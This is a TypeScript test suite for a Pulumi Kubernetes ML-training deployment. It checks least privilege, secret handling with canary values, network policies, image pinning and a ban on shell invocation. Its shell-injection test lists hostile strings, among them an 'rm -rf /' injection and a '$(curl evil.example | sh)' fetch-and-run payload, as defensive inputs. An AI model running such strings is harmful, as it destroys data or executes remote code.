// Least privilege, secrets and the no-shell rule, on the whole program under the mock runtime.
import assert from "node:assert/strict";
import { describe, it } from "node:test";
import * as pulumi from "@pulumi/pulumi";
import { ConfigError, SECRET_KEYS } from "../components/config";
import { isSecretValue, type ProgramRun } from "../tools/mockRun";
import { renderResources } from "../tools/render";
import { recordLogs } from "./support/logs";
import { baselineViolations, podSpecsOf, restrictedViolations, shellInvocations } from "./support/podSecurity";
import { commandJob, OWNED, one, runStack, T } from "./support/stacks";

type Json = Record<string, any>;

const CANARIES = {
  hfToken: "hf_CANARY_6f1c0e",
  s3AccessKeyId: "AKIA_CANARY_93b2",
  s3SecretAccessKey: "s3_CANARY_secret_71aa",
  imagePullSecrets: JSON.stringify({ auths: { "registry.example.com": { auth: "Y2FuYXJ5OkNBTkFSWV9wdWxs" } } }),
};

const fullStack = (extra: Record<string, unknown> = {}) => ({
  namespace: "ml",
  // The cluster's operator runs the restricted Worker init container (see the Worker pods tests).
  trainingOperator: { install: false, workerPodSecurity: "restricted" },
  networkPolicy: true,
  ...CANARIES,
  jobs: {
    granite: {
      image: "registry.example.com/ml/ilab:1.0",
      nodes: 2,
      model: { source: "hf://ibm-granite/granite-3.1-8b-base", size: "40Gi" },
      dataset: { source: "s3://data/granite", endpoint: "https://minio.example.com:9000", size: "10Gi" },
      output: { size: "100Gi" },
      trainer: { type: "instructlab" },
    },
    smoke: commandJob(),
  },
  ...extra,
});

const objects = (run: ProgramRun) =>
  run.resources.filter((r) => r.custom && typeof r.inputs.kind === "string").map((r) => r.inputs as Json);

describe("least privilege by default", () => {
  it("every pod (training, staging, preparation) passes the restricted profile and has no API token", async () => {
    const run = await runStack(fullStack(), [...SECRET_KEYS]);
    const pods = objects(run).flatMap((o) => podSpecsOf(o).map((spec) => ({ name: o.metadata.name, spec })));
    assert.equal(pods.length, 6, "granite: master, worker, 2 staging, prepare; smoke: master");
    for (const { name, spec } of pods) {
      assert.deepEqual(restrictedViolations(spec), [], name);
      assert.equal(spec.serviceAccountName, "finetune", name);
      assert.equal(spec.automountServiceAccountToken, false, name);
      assert.deepEqual(
        spec.securityContext,
        {
          runAsNonRoot: true,
          runAsUser: 1000,
          runAsGroup: 1000,
          fsGroup: 1000,
          fsGroupChangePolicy: "OnRootMismatch",
          seccompProfile: { type: "RuntimeDefault" },
        },
        name,
      );
      for (const c of spec.containers) {
        assert.deepEqual(c.securityContext, { allowPrivilegeEscalation: false, capabilities: { drop: ["ALL"] } });
      }
    }
  });

  it("creates a token-less ServiceAccount and enforces the restricted level on the namespace", async () => {
    const run = await runStack(fullStack(), [...SECRET_KEYS]);
    assert.deepEqual(one(run, "kubernetes:core/v1:ServiceAccount", "ml-service-account").inputs, {
      apiVersion: "v1",
      kind: "ServiceAccount",
      metadata: {
        name: "finetune",
        namespace: "ml",
        annotations: OWNED,
        labels: {
          "app.kubernetes.io/name": "finetune",
          "app.kubernetes.io/component": "credentials",
          "app.kubernetes.io/part-of": "finetune",
          "app.kubernetes.io/managed-by": "pulumi",
        },
      },
      automountServiceAccountToken: false,
    });
    const labels = (one(run, T.namespace, "ml").inputs as Json).metadata.labels;
    assert.equal(labels["pod-security.kubernetes.io/enforce"], "restricted");
    assert.equal(labels["pod-security.kubernetes.io/warn"], "restricted");
    assert.equal(labels["pod-security.kubernetes.io/audit"], "restricted");
  });

  it("a per-job override runs an image as root, lowers enforcement to baseline, and render shows it", async () => {
    const run = await runStack({
      namespace: "ml",
      trainingOperator: { install: false },
      jobs: { legacy: commandJob({ securityContext: { runAsUser: 0 } }), modern: commandJob() },
    });
    const legacy = podSpecsOf(one(run, T.pytorchJob, "legacy-pytorchjob").inputs)[0];
    assert.deepEqual(legacy.securityContext, {
      runAsNonRoot: false,
      runAsUser: 0,
      runAsGroup: 0,
      fsGroup: 0,
      fsGroupChangePolicy: "OnRootMismatch",
      seccompProfile: { type: "RuntimeDefault" },
    });
    assert.deepEqual(restrictedViolations(legacy), [
      "pod runAsUser is 0",
      "pytorch: runAsNonRoot is not true",
      "pytorch: runAsUser is 0",
    ]);
    assert.deepEqual(baselineViolations(legacy), []);
    const modern = podSpecsOf(one(run, T.pytorchJob, "modern-pytorchjob").inputs)[0];
    assert.deepEqual(restrictedViolations(modern), []);
    const labels = (one(run, T.namespace, "ml").inputs as Json).metadata.labels;
    assert.equal(labels["pod-security.kubernetes.io/enforce"], "baseline");
    assert.equal(labels["pod-security.kubernetes.io/warn"], "restricted");
    assert.match(renderResources(run.resources), /runAsUser: 0\n/);
  });
});

describe("Worker pods under the namespace's Pod Security level", () => {
  const twoNodes = (operator: Record<string, unknown>) => ({
    namespace: "ml",
    trainingOperator: operator,
    jobs: { sweep: commandJob({ nodes: 2 }), smoke: commandJob() },
  });
  const workerOnly = (warnings: string[]) =>
    warnings.filter((w) => w.startsWith("finetune:trainingOperator.workerPodSecurity:"));
  const enforced = (run: ProgramRun) =>
    (one(run, T.namespace, "ml").inputs as Json).metadata.labels["pod-security.kubernetes.io/enforce"];
  const warningFor = (jobs: string) =>
    `finetune:trainingOperator.workerPodSecurity: namespace ml enforces baseline, not restricted: the jobs ${jobs} ` +
    "run Workers, and a training operator this stack does not install adds its init container init-pytorch to " +
    "each Worker without a securityContext unless it is configured otherwise (docs/security.md, Pod Security). If the " +
    "cluster's operator runs the restricted template, set trainingOperator.workerPodSecurity: restricted; " +
    "set it to baseline to keep this level without this warning.";

  it("an operator the stack installs runs a restricted init container: the namespace stays restricted", async () => {
    const warnings = await recordLogs("warn", async () => {
      const run = await runStack(twoNodes({ install: true }));
      assert.equal(enforced(run), "restricted");
    });
    assert.deepEqual(workerOnly(warnings), []);
  });

  it("an operator the stack does not install: baseline for multi-node jobs, with a warning naming the key", async () => {
    const warnings = await recordLogs("warn", async () => {
      const run = await runStack(twoNodes({ install: false }));
      assert.equal(enforced(run), "baseline");
    });
    assert.deepEqual(workerOnly(warnings), [warningFor("sweep")]);
  });

  it("workerPodSecurity: restricted says the cluster's operator is configured: restricted, no warning", async () => {
    const warnings = await recordLogs("warn", async () => {
      const run = await runStack(twoNodes({ install: false, workerPodSecurity: "restricted" }));
      assert.equal(enforced(run), "restricted");
    });
    assert.deepEqual(workerOnly(warnings), []);
  });

  it("workerPodSecurity: baseline keeps baseline without the warning; single-node jobs need nothing", async () => {
    const warnings = await recordLogs("warn", async () => {
      assert.equal(enforced(await runStack(twoNodes({ install: false, workerPodSecurity: "baseline" }))), "baseline");
      const single = { namespace: "ml", trainingOperator: { install: false }, jobs: { smoke: commandJob() } };
      assert.equal(enforced(await runStack(single)), "restricted");
    });
    assert.deepEqual(workerOnly(warnings), []);
  });
});

describe("secrets stay secret", () => {
  it("each secret is a secret Output in its own Secret, and appears nowhere else", async () => {
    const run = await runStack(fullStack(), [...SECRET_KEYS]);
    const secrets = run.resources.filter((r) => r.type === T.secret);
    assert.deepEqual(
      secrets.map((r) => [r.name, (r.inputs as Json).type, isSecretValue(r.inputs.stringData)]),
      [
        ["ml-registry-credentials", "kubernetes.io/dockerconfigjson", true],
        ["ml-hf-token", "Opaque", true],
        ["ml-s3-credentials", "Opaque", true],
      ],
    );
    assert.deepEqual((one(run, T.secret, "ml-registry-credentials").inputs.stringData as Json).value, {
      ".dockerconfigjson": CANARIES.imagePullSecrets,
    });
    const elsewhere = JSON.stringify([
      run.resources.filter((r) => r.type !== T.secret).map((r) => r.inputs),
      run.outputs,
    ]);
    const rendered = renderResources(run.resources);
    for (const [key, canary] of Object.entries(CANARIES)) {
      assert.equal(elsewhere.includes(canary), false, `${key} leaked into a non-Secret object or an output`);
      assert.equal(rendered.includes(canary), false, `${key} printed by render`);
    }
  });

  it("pods pull with the registry credentials and read tokens only through secretKeyRef", async () => {
    const run = await runStack(fullStack(), [...SECRET_KEYS]);
    for (const o of objects(run)) {
      for (const spec of podSpecsOf(o)) {
        assert.deepEqual(spec.imagePullSecrets, [{ name: "registry-credentials" }], o.metadata.name);
        for (const c of spec.containers) {
          for (const e of c.env ?? []) {
            if (/TOKEN|KEY/.test(e.name)) assert.equal(e.value, undefined, `${o.metadata.name}/${e.name}`);
          }
        }
      }
    }
    assert.equal(
      one(run, T.pytorchJob, "granite-pytorchjob").options.dependsOn.includes("ml-registry-credentials"),
      true,
    );
  });

  it("a secret of the wrong shape fails the program before it declares anything, with its key, never its value", async () => {
    const registered: string[] = [];
    const errors = await recordLogs("error", () =>
      assert.rejects(
        runStack(
          fullStack({ hfToken: "hf CANARY with spaces", imagePullSecrets: "user:CANARY_password" }),
          [...SECRET_KEYS],
          { onRegister: (type, name) => registered.push(`${type} ${name}`) },
        ),
        (e: Error) => {
          assert.equal(e instanceof ConfigError, true, String(e));
          assert.deepEqual((e as ConfigError).problems, [
            "finetune:hfToken: must not contain whitespace",
            'finetune:imagePullSecrets: must be the contents of a Docker config.json with registry credentials ({"auths": {...}}): pulumi config set --secret imagePullSecrets "$(cat ~/.docker/config.json)"',
          ]);
          assert.equal(e.message.includes("CANARY"), false);
          return true;
        },
      ),
    );
    assert.deepEqual(registered, []);
    assert.deepEqual(errors, []);
  });

  it("never reads a secret key through a non-secret config getter", async () => {
    const getters = [
      "get",
      "require",
      "getObject",
      "requireObject",
      "getBoolean",
      "requireBoolean",
      "getNumber",
      "requireNumber",
    ] as const;
    const read: string[] = [];
    const proto = pulumi.Config.prototype as unknown as Record<string, (...args: unknown[]) => unknown>;
    const originals = getters.map((g) => proto[g]);
    getters.forEach((g, i) => {
      proto[g] = function (this: unknown, key: unknown, ...rest: unknown[]) {
        read.push(String(key));
        return originals[i].call(this, key, ...rest);
      };
    });
    try {
      await runStack(fullStack(), [...SECRET_KEYS]);
    } finally {
      getters.forEach((g, i) => {
        proto[g] = originals[i];
      });
    }
    assert.deepEqual(
      read.filter((k) => (SECRET_KEYS as readonly string[]).includes(k.replace(/^finetune:/, ""))),
      [],
    );
  });
});

describe("no shell, anywhere", () => {
  const HOSTILE = [
    "'; rm -rf / #",
    "$(curl evil.example | sh)",
    "`id`",
    "a\"b'c",
    "line1\nline2",
    "--flag=$HOME && echo",
  ];

  it("hands each hostile string to the process as one argument, byte for byte", async () => {
    const run = await runStack({
      namespace: "ml",
      trainingOperator: { install: false },
      jobs: {
        a: commandJob({
          trainer: { type: "command", command: ["python", "train.py", ...HOSTILE] },
          env: { NOTE: HOSTILE[1] },
          rerun: HOSTILE[0],
          annotations: { "example.com/note": HOSTILE[4] },
        }),
      },
    });
    const pj = one(run, T.pytorchJob, "a-pytorchjob").inputs as Json;
    const container = podSpecsOf(pj)[0].containers[0];
    assert.deepEqual(container.command, ["python", "train.py", ...HOSTILE]);
    assert.deepEqual(container.env[0], { name: "NOTE", value: HOSTILE[1] });
    for (const o of objects(run)) assert.deepEqual(shellInvocations(o), [], o.metadata.name);
  });

  it("refuses a command that runs a shell with -c", async () => {
    await assert.rejects(
      runStack({
        namespace: "ml",
        jobs: {
          a: commandJob({ trainer: { type: "command", command: ["bash", "-c", "pip install x && python t.py"] } }),
        },
      }),
      (e: unknown) => {
        assert.ok(e instanceof ConfigError);
        assert.deepEqual(e.problems, [
          "finetune:jobs.a.trainer.command: runs a shell with -c: give the program and its arguments directly (e.g. [torchrun, train.py, --lr, '1e-5']) so that no config value is interpreted by a shell; bake setup steps into the image",
        ]);
        return true;
      },
    );
  });
});

describe("network policy", () => {
  it("denies by default, allows DNS, peers within a job, and staging to its sources' ports", async () => {
    const run = await runStack(fullStack(), [...SECRET_KEYS]);
    const policies = run.resources.filter((r) => r.type === "kubernetes:networking.k8s.io/v1:NetworkPolicy");
    assert.deepEqual(
      policies.map((r) => [r.name, (r.inputs as Json).metadata.name]),
      [
        ["ml-default-deny", "finetune-default-deny"],
        ["ml-allow-dns", "finetune-allow-dns"],
        ["granite-training", "granite-training"],
        ["granite-staging", "granite-staging"],
        ["smoke-training", "smoke-training"],
      ],
    );
    assert.deepEqual(
      (one(run, "kubernetes:networking.k8s.io/v1:NetworkPolicy", "ml-default-deny").inputs as Json).spec,
      {
        podSelector: {},
        policyTypes: ["Ingress", "Egress"],
      },
    );
    const peers = {
      matchLabels: { "app.kubernetes.io/instance": "granite", "app.kubernetes.io/component": "training" },
    };
    assert.deepEqual(
      (one(run, "kubernetes:networking.k8s.io/v1:NetworkPolicy", "granite-training").inputs as Json).spec,
      {
        podSelector: peers,
        policyTypes: ["Ingress", "Egress"],
        ingress: [{ from: [{ podSelector: peers }] }],
        egress: [{ to: [{ podSelector: peers }] }],
      },
    );
    assert.deepEqual(
      (one(run, "kubernetes:networking.k8s.io/v1:NetworkPolicy", "granite-staging").inputs as Json).spec,
      {
        podSelector: {
          matchLabels: { "app.kubernetes.io/instance": "granite", "app.kubernetes.io/component": "staging" },
        },
        policyTypes: ["Egress"],
        egress: [
          {
            ports: [
              { protocol: "TCP", port: 443 },
              { protocol: "TCP", port: 9000 },
            ],
          },
        ],
      },
    );
  });

  it("declares no NetworkPolicy unless asked", async () => {
    const run = await runStack({ namespace: "ml", trainingOperator: { install: false }, jobs: { a: commandJob() } });
    assert.equal(
      run.resources.some((r) => r.type === "kubernetes:networking.k8s.io/v1:NetworkPolicy"),
      false,
    );
  });
});

describe("images", () => {
  it("warns about a tag that can move, naming the job", async () => {
    const warnings = await recordLogs("warn", async () => {
      await runStack({
        namespace: "ml",
        trainingOperator: { install: false },
        jobs: {
          latest: commandJob({ image: "quay.io/acme/trainer:latest" }),
          untagged: commandJob({ image: "localhost:5000/trainer" }),
          pinned: commandJob({ image: `quay.io/acme/trainer@sha256:${"a".repeat(64)}` }),
          fixed: commandJob({ image: "quay.io/acme/trainer:1.2.3" }),
        },
      });
    });
    assert.deepEqual(
      warnings.filter((w) => /^finetune:jobs\.\w+\.image:/.test(w)),
      [
        'finetune:jobs.latest.image: "quay.io/acme/trainer:latest" uses the tag latest, which can move: pin it by digest (image@sha256:...) or a fixed tag so that a rerun runs the same code',
        'finetune:jobs.untagged.image: "localhost:5000/trainer" has no tag, which can move: pin it by digest (image@sha256:...) or a fixed tag so that a rerun runs the same code',
      ],
    );
  });
});
